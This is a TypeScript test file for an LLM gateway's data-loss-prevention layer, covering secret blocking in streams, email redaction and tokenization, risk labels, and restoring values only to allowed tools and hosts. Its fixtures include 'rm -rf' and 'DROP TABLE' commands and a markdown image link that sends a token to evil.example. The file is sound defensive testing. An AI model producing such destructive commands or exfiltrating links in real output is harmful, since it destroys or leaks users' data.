import { expect, test } from 'vitest'
import type { Script } from '../sim/index.ts'
import {
  as,
  chatBody,
  messagesBody,
  startGateway,
  startSim,
  type Answered,
  type TestGateway,
} from './kit/index.ts'

const MAIL = 'erika.mustermann@mail-of-mine.de'
const KEY = 'glpat-Zx81kqPw7vTn2LmRb4Yd'
const policyOf = (dlp: object): Readonly<Record<string, unknown>> => ({
  routes: [{ name: 'free', model_alias: 'free', dlp }],
})

const BODIES: Readonly<Record<string, (rest: object) => object>> = {
  '/v1/chat/completions': (rest) => chatBody(rest),
  '/anthropic/v1/messages': (rest) => messagesBody(rest),
  '/v1/responses': (rest) => ({ input: 'Go.', ...rest }),
  '/v1/completions': (rest) => ({ prompt: 'Go.', ...rest }),
}
const PATHS = Object.keys(BODIES)

const streamOf = (gw: TestGateway, path: string): Promise<Answered> =>
  gw.send(path, BODIES[path]?.({ model: 'free', stream: true }))

for (const path of PATHS) {
  test(`${path}, before: what must not go out is an HTTP error, of a stream too`, async () => {
    await using sim = await startSim({ content: `First some words. Then ${KEY}. And more.`, slices: 'event' })
    const policy = policyOf({ action_on_secret: 'block', replies: 'before' })
    await using gw = await startGateway({ upstream: sim.url, policy })
    const { status, headers, text } = await streamOf(gw, path)
    expect(status).toBe(403)
    expect(headers.get('content-type')).toContain('application/json')
    expect(text).toContain('API_KEY')
    expect(text).not.toContain('First')
    expect(await gw.outcome()).toMatchObject({
      status: 'sensitive_data',
      reply_findings: [{ type: 'API_KEY', action: 'block', count: 1 }],
    })
  })

  test(`${path}, chunks: what came before it went out, and the reply ends with an error`, async () => {
    await using sim = await startSim({ content: `First some words. Then ${KEY}. And more.`, slices: 'event' })
    const policy = policyOf({ action_on_secret: 'block', replies: 'chunks' })
    await using gw = await startGateway({ upstream: sim.url, policy })
    const { status, text } = await streamOf(gw, path)
    expect(status).toBe(200)
    expect(text).toContain('irst')
    expect(text).not.toContain(KEY)
    expect(text).not.toContain('more')
    expect(text).toContain('API_KEY')
  })

  test(`${path}, after: all of it goes out as it came, and what was found is on record`, async () => {
    const script: Script = { content: `Use ${KEY}, ask ${MAIL}. Or run rm -rf /tmp/x first.` }
    const read = async (dlp: object): Promise<string> => {
      await using sim = await startSim(script, { createdAt: 1_790_000_000 })
      await using gw = await startGateway({ upstream: sim.url, policy: policyOf(dlp) })
      const { text } = await streamOf(gw, path)
      if (!('replies' in dlp)) return text
      expect(await gw.outcome()).toMatchObject({
        status: 'ok',
        reply_findings: [
          { type: 'API_KEY', action: 'flag', count: 1 },
          { type: 'EMAIL_ADDRESS', action: 'flag', count: 1 },
        ],
        reply_risks: ['shell'],
      })
      const metrics = await gw.metrics()
      expect(metrics).toContain('caisson_findings_total{type="API_KEY",action="flag"} 1')
      expect(metrics).toContain('caisson_reply_risks_total{label="shell"} 1')
      return text
    }
    const dlp = { action_on_secret: 'block', action_on_pii: 'redact' }
    const watched = await read({ ...dlp, replies: 'after', risk_labels: true })
    expect(watched).toContain(': caisson-risk: shell\n\n')
    expect(watched.replace(': caisson-risk: shell\n\n', '')).toBe(await read(dlp))
  })

  test(`${path}: what a whole reply may do is in a header, of a stream where it is judged whole`, async () => {
    await using sim = await startSim({ content: 'See https://example.com and DROP TABLE users;', times: 2 })
    const policy = policyOf({ replies: 'before', action_on_pii: 'redact', risk_labels: true })
    await using gw = await startGateway({ upstream: sim.url, policy })
    const whole = await gw.send(path, BODIES[path]?.({ model: 'free' }))
    expect(whole.headers.get('x-caisson-risk')).toBe('sql,link')
    const stream = await streamOf(gw, path)
    expect(stream.headers.get('x-caisson-risk')).toBe('sql,link')
    expect(stream.text).toContain(': caisson-risk: sql,link\n\n')
  })

  test(`${path}, before: a slow reply is held, its connection kept open, and a block is an error event`, async () => {
    await using sim = await startSim(
      { keepAlives: 1, startDelayMs: 300, content: `Then ${KEY}.` },
      { keepAliveMs: 60_000 },
    )
    const policy = policyOf({ action_on_secret: 'block', replies: 'before' })
    const timeouts = { hold_status_ms: 50, heartbeat_ms: 100 }
    await using gw = await startGateway({ upstream: sim.url, policy, timeouts })
    const { status, text } = await streamOf(gw, path)
    expect(status).toBe(200)
    expect(text).toMatch(/^: ping\n|^event: ping/)
    expect(text).toContain('API_KEY')
    expect(text).not.toContain(KEY)
  })

  test(`${path}, chunks: what is held back when a reply breaks off is the caller's`, async () => {
    await using sim = await startSim({ content: `Write to ${MAIL} now`, cutAfter: 999, noDone: true })
    const policy = policyOf({ action_on_pii: 'redact', replies: 'chunks' })
    await using gw = await startGateway({ upstream: sim.url, policy })
    const { text } = await streamOf(gw, path)
    expect(text).not.toContain(MAIL)
    expect(text).toContain('[EMAIL_ADDRESS]')
  })
}

test('the stock clients make nothing of the comment', async () => {
  await using sim = await startSim({
    content: 'Run rm -rf /tmp/x and see https://example.com now.',
    times: 4,
  })
  const policy = policyOf({ risk_labels: true })
  await using gw = await startGateway({ upstream: sim.url, policy })
  const text = 'Run rm -rf /tmp/x and see https://example.com now.'
  const messages = [{ role: 'user' as const, content: 'Go.' }]
  const chat = await gw.openai().chat.completions.stream({ model: 'free', messages }).finalContent()
  const response = await gw.openai().responses.stream({ model: 'free', input: 'Go.' }).finalResponse()
  const message = gw.anthropic().messages.stream({ model: 'free', max_tokens: 99, messages })
  let completion = ''
  const fim = { model: 'free', prompt: 'Go.', stream: true as const }
  for await (const { choices } of await gw.openai().completions.create(fim))
    completion += choices[0]?.text ?? ''
  expect([chat, response.output_text, await message.finalText(), completion]).toEqual(Array(4).fill(text))
  expect(await gw.outcome(3)).toMatchObject({ reply_risks: ['shell', 'link'] })
})

test('values are given back only to tools that are named, and to links of hosts that are', async () => {
  await using sim = await startSim()
  const dlp = {
    action_on_pii: 'tokenize',
    restore_hosts: ['*.acme.org'],
    restore_in_tools: ['crm_*'],
  }
  await using gw = await startGateway({ upstream: sim.url, policy: policyOf(dlp) })
  const ask = {
    model: 'free',
    messages: [{ role: 'user' as const, content: `Write to ${MAIL}.` }],
    tools: ['crm_find', 'web'].map((name) => ({ type: 'function' as const, function: { name } })),
  }
  await gw.openai().chat.completions.create(ask)
  const token = /EMAIL_\w+/.exec(JSON.stringify(sim.requests[0]?.json))?.[0] ?? ''
  const content = `![a](https://evil.example/?q=${token}) [b](https://crm.acme.org/?q=${token}) ${token}`
  const expected = `![a](https://evil.example/?q=${token}) [b](https://crm.acme.org/?q=${MAIL}) ${MAIL}`
  for (const stream of [false, true]) {
    sim.script({
      content,
      toolCalls: [
        { name: 'crm_find', arguments: { who: token } },
        { name: 'web', arguments: { who: token } },
      ],
    })
    const { choices } = stream
      ? await gw.openai().chat.completions.stream(ask).finalChatCompletion()
      : await gw.openai().chat.completions.create(ask)
    const { content: said, tool_calls: calls = [] } = choices[0]?.message ?? {}
    expect(said).toBe(expected)
    const given = as<{ function: { arguments: string } }[]>(calls).map((call) => call.function.arguments)
    expect(given.map((text) => as<object>(JSON.parse(text)))).toEqual([{ who: MAIL }, { who: token }])
  }
})

test('a token of another conversation is no way to a value', async () => {
  await using sim = await startSim()
  await using gw = await startGateway({ upstream: sim.url, policy: policyOf({ action_on_pii: 'tokenize' }) })
  const ask = (content: string, user: string): Promise<Answered> =>
    gw.chat({ model: 'free', messages: [{ role: 'user', content }] }, { headers: { 'x-session-id': user } })
  await ask(`Write to ${MAIL}.`, 'one')
  const token = /EMAIL_\w+/.exec(JSON.stringify(sim.requests[0]?.json))?.[0] ?? ''
  sim.script({ content: `It is ${token}` })
  const { text } = await ask('Write to john.doe@mail-of-mine.de and say it.', 'two')
  expect(text).toContain(token)
  expect(text).not.toContain(MAIL)
})
